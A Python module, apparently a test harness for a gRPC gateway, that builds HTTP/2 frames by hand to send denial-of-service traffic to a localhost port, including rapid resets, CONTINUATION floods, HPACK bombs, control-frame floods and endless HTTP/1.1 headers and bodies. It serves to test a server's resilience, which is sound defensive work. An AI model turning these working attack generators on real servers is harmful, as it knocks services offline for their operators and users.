"""What a malicious stranger sends: TLS by the standard library, HTTP/2 frames made by hand."""

import asyncio
import ssl
import struct
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
POLL = "/temporal.api.workflowservice.v1.WorkflowService/PollActivityTaskQueue"


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    head = struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream)
    return head + body


def integer(value: int, bits: int, first: int) -> bytes:
    """An integer in HPACK (RFC 7541, 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    found = bytearray((first | most,))
    value -= most
    while value >= 128:
        found.append(value % 128 + 128)
        value //= 128
    return bytes((*found, value))


def text(value: bytes) -> bytes:
    return integer(len(value), 7, 0) + value


def literal(name: str, value: str) -> bytes:
    """A header that is not added to the table."""
    return b"\x00" + text(name.encode()) + text(value.encode())


def indexed(name: str, value: str) -> bytes:
    """A header that is added to the table."""
    return b"\x40" + text(name.encode()) + text(value.encode())


def request(path: str = POLL, word: str = "") -> bytes:
    """The headers of a gRPC call."""
    named = b"\x83\x87" + b"\x04" + text(path.encode()) + b"\x01" + text(b"localhost")
    more = literal("te", "trailers") + literal("content-type", "application/grpc")
    return named + more + (literal("authorization", f"Bearer {word}") if word else b"")


def odd() -> Iterator[int]:
    """Stream numbers of a client."""
    return iter(range(1, 2**31, 2))


Sending = Callable[[str], Iterator[bytes]]
"""What one connection sends, endlessly, given a credential or an empty string."""


def continuations(word: str) -> Iterator[bytes]:
    """Headers that never end."""
    yield PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, request(word=word))
    number = 0
    while True:
        number += 1
        yield frame(CONTINUATION, 0, 1, literal(f"x-{number}", "v" * 16_000)[:16_384])


def small_continuations(word: str) -> Iterator[bytes]:
    """The same, made of many small headers."""
    yield PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, request(word=word))
    piece = b"".join(literal(f"x{number % 100}", "") for number in range(2_000))[:16_000]
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuations(word: str) -> Iterator[bytes]:
    """The same, made of empty frames."""
    yield PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, request(word=word))
    while True:
        yield frame(CONTINUATION, 0, 1) * 1_000


def rapid_resets(word: str) -> Iterator[bytes]:
    """Calls that are cancelled as soon as they are made."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    streams = odd()
    headers = request(word=word)
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in (next(streams) for _ in range(100))
        )


def calls(word: str) -> Iterator[bytes]:
    """Calls, each of which is refused."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    streams = odd()
    headers = request(word=word)
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(DATA, END_STREAM, stream, b"\0" * 5)
            for stream in (next(streams) for _ in range(50))
        )


def pings(word: str) -> Iterator[bytes]:
    yield PREFACE + frame(SETTINGS, 0, 0)
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def settings(word: str) -> Iterator[bytes]:
    yield PREFACE
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 6) * 300


def window_updates(word: str) -> Iterator[bytes]:
    yield PREFACE + frame(SETTINGS, 0, 0)
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1_000


def hpack_bombs(word: str) -> Iterator[bytes]:
    """A large header in the table, and thousands of one-byte references to it."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    streams = odd()
    first = request(word=word) + indexed("x-bomb", "b" * 4_000)
    yield frame(HEADERS, END_HEADERS, next(streams), first)
    while True:
        bomb = request(word=word) + b"\xbe" * 15_000
        yield frame(HEADERS, END_HEADERS, next(streams), bomb)


def large_bodies(word: str) -> Iterator[bytes]:
    """Messages that never end."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    for stream in range(1, 200, 2):
        head = frame(HEADERS, END_HEADERS, stream, request(word=word))
        yield head + frame(DATA, 0, stream, b"\0" + struct.pack(">I", 2**22))
    while True:
        for stream in range(1, 200, 2):
            yield frame(DATA, 0, stream, b"d" * 16_000)


def pipelined(word: str) -> Iterator[bytes]:
    """HTTP/1.1 requests that are all refused, sent without waiting for the answers."""
    while True:
        yield b"GET /v1/whoami HTTP/1.1\r\nHost: gw\r\n\r\n" * 200


def pipelined_questions(word: str) -> Iterator[bytes]:
    """Requests that anybody may make."""
    while True:
        yield b"GET /healthz HTTP/1.1\r\nHost: gw\r\n\r\n" * 200


def endless_header(word: str) -> Iterator[bytes]:
    yield b"GET /v1/whoami HTTP/1.1\r\nHost: gw\r\nX-Long: "
    while True:
        yield b"a" * 16_000


def endless_body(word: str) -> Iterator[bytes]:
    """A body that is sent although the request was refused."""
    yield b"POST /v1/whoami HTTP/1.1\r\nHost: gw\r\nContent-Length: 1000000000000\r\n\r\n"
    while True:
        yield b"b" * 16_000


HTTP2: tuple[Sending, ...] = (
    continuations,
    small_continuations,
    empty_continuations,
    rapid_resets,
    calls,
    pings,
    settings,
    window_updates,
    hpack_bombs,
    large_bodies,
)
HTTP1: tuple[Sending, ...] = (pipelined, pipelined_questions, endless_header, endless_body)


@dataclass(frozen=True)
class Attacker:
    """Somebody who can reach a gateway's port."""

    port: int
    authority: bytes

    def context(self, *protocols: str) -> ssl.SSLContext:
        context = ssl.create_default_context(cadata=self.authority.decode())
        context.set_alpn_protocols(list(protocols))
        return context

    @asynccontextmanager
    async def connection(
        self, *protocols: str
    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        reader, writer = await asyncio.open_connection(
            "localhost", self.port, ssl=self.context(*protocols), limit=2**20
        )
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    async def send(self, sending: Sending, most: int, word: str = "") -> int:
        """Send at most `most` bytes on one connection until it ends; returns how many were sent."""
        sent = 0
        protocol = "h2" if sending in HTTP2 else "http/1.1"
        with suppress(ConnectionError, ssl.SSLError, TimeoutError):
            async with self.connection(protocol) as (reader, writer):
                reading = asyncio.create_task(_read_all(reader))
                try:
                    for piece in sending(word):
                        if sent >= most or reading.done():
                            break
                        writer.write(piece)
                        async with asyncio.timeout(20):
                            await writer.drain()
                        sent += len(piece)
                        await asyncio.sleep(0)
                finally:
                    reading.cancel()
        return sent


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError, ssl.SSLError):
        while await reader.read(65_536):
            pass
